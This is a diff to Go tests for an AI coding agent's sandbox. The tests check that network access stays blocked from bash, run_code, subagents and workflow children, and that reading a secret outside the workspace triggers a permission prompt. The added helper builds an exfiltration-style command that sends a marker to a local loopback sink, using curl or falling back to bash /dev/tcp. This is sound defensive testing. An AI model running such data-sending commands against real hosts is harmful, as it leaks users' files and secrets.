@@ -18,9 +18,11 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/dsh-acp/dsh-acp/agent/llm"
 	"github.com/dsh-acp/dsh-acp/composition"
 	"github.com/dsh-acp/dsh-acp/internal/acpclient"
 	"github.com/dsh-acp/dsh-acp/sandbox"
+	"github.com/dsh-acp/dsh-acp/session"
 )
 
 // sink is a loopback TCP listener that counts connections and bytes.
@@ -56,6 +58,14 @@ func newSink(t *testing.T) *sink {
 }
 
 func (s *sink) url() string { return "http://" + s.ln.Addr().String() + "/" }
+
+// send is a command that posts EXFIL to the sink: curl, or bash's own
+// /dev/tcp where curl is not installed.
+func (s *sink) send() string {
+	host, port, _ := net.SplitHostPort(s.ln.Addr().String())
+	return "if command -v curl >/dev/null; then curl -sS --max-time 5 --data EXFIL " + s.url() +
+		"; else exec 3<>/dev/tcp/" + host + "/" + port + " && printf EXFIL >&3; fi"
+}
 
 // containLab is a fake home outside /tmp (so that every backend shows it)
 // holding secrets, the agent's state and a git workspace, served by the
@@ -171,7 +181,7 @@ func TestContainedNetwork(t *testing.T) {
 			l := newContainLab(t, b, false)
 			s := newSink(t)
 			sid := l.srv.newSession(t, l.ws).SessionID
-			curl := "curl -sS --max-time 5 --data EXFIL " + s.url()
+			curl := s.send()
 			r := l.call(t, sid, "plain", "bash", map[string]any{"command": curl, "description": "send"})
 			assert.Zero(t, s.conns.Load(), r.text())
 			assert.Zero(t, s.bytes.Load())
@@ -310,7 +320,7 @@ func TestContainedNetworkInTheEditorsTerminal(t *testing.T) {
 	s := serveClient(t, "default", openStore(t, store), project, p, acpclient.Options{Terminals: terms}, nil)
 	sid := s.newSession(t, project).SessionID
 	sk := newSink(t)
-	args, _ := json.Marshal(map[string]string{"command": "curl -sS --max-time 5 --data EXFIL " + sk.url(), "description": "send"})
+	args, _ := json.Marshal(map[string]string{"command": sk.send(), "description": "send"})
 	p.script("send", toolCall{Name: "bash", Args: string(args)})
 	s.prompt(t, sid, "send")
 	awaitReleased(t, terms)
@@ -333,4 +343,72 @@ func TestContainedMissingProtectedFiles(t *testing.T) {
 		"description": "plant"})
 	assert.False(t, exists(settings), "bash created .vscode/settings.json")
 	assert.False(t, exists(hook), "bash created a git hook")
+}
+
+// The network stays off whatever path the command takes: run_code, a
+// subagent, a workflow child; asked from run_code, the request still names
+// the command.
+func TestContainedNetworkEveryPath(t *testing.T) {
+	l := newContainLab(t, &sandbox.Bwrap{}, false)
+	s := newSink(t)
+	sid := l.srv.newSession(t, l.ws).SessionID
+	l.srv.setConfig(t, sid, "tool-mode", "both")
+	send := strings.ReplaceAll(strings.ReplaceAll(jsonString(s.send()), `\u003c`, "<"), `\u003e`, ">")
+	send = strings.ReplaceAll(send, `\u0026`, "&")
+
+	l.call(t, sid, "code", "run_code", map[string]any{"code": "return await tools.bash({command: " + send + ", description: 'send'})"})
+	assert.Zero(t, s.conns.Load(), "run_code")
+
+	bashArgs, _ := json.Marshal(map[string]any{"command": s.send(), "description": "send"})
+	l.p.script("child: send it", toolCall{Name: "bash", Args: string(bashArgs)})
+	l.call(t, sid, "delegate", "subagent", map[string]any{"description": "send", "prompt": "child: send it"})
+	assert.Zero(t, s.conns.Load(), "subagent")
+	l.call(t, sid, "flow", "workflow", map[string]any{"script": "return await agent('child: send it', {label: 'send'})",
+		"meta": map[string]any{"name": "send", "description": "send"}})
+	assert.Zero(t, s.conns.Load(), "workflow child")
+	// The children really ran the command: their models got the marker.
+	children := 0
+	for _, req := range l.p.requests() {
+		if prompt, after := position(req); prompt == "child: send it" && after && strings.Contains(blocksText(req.Messages), "network access denied") {
+			children++
+		}
+	}
+	assert.Equal(t, 2, children, "the subagent's and the workflow child's bash results")
+
+	l.setAnswer("allow-once")
+	l.call(t, sid, "code-net", "run_code", map[string]any{"code": "return await tools.bash({command: " + send +
+		", description: 'send', network: true, justification: 'uploads'})"})
+	assert.Equal(t, int64(1), s.conns.Load(), "run_code, allowed once")
+	asked := l.requests()
+	require.NotEmpty(t, asked)
+	assert.Contains(t, asked[len(asked)-1].texts(), s.send())
+	assert.Contains(t, asked[len(asked)-1].texts(), "with network access")
+}
+
+// blocksText joins every text of the messages, tool results included.
+func blocksText(ms []llm.Message) string {
+	var b strings.Builder
+	var walk func(bs []session.Block)
+	walk = func(bs []session.Block) {
+		for _, x := range bs {
+			b.WriteString(x.Text)
+			walk(x.Content)
+		}
+	}
+	for _, m := range ms {
+		walk(m.Content)
+	}
+	return b.String()
+}
+
+// A secret outside the root is asked about once, saying it holds secrets.
+func TestContainedSecretOutsideTheRootAsksOnce(t *testing.T) {
+	l := newContainLab(t, &sandbox.Bwrap{}, false)
+	sid := l.srv.newSession(t, l.ws).SessionID
+	l.setAnswer("allow-once")
+	r := l.call(t, sid, "read-key", "read", map[string]any{"file_path": l.key})
+	assert.False(t, r.IsError, r.text())
+	asked := l.requests()
+	require.Len(t, asked, 1)
+	assert.Contains(t, asked[0].texts(), "secrets")
 }
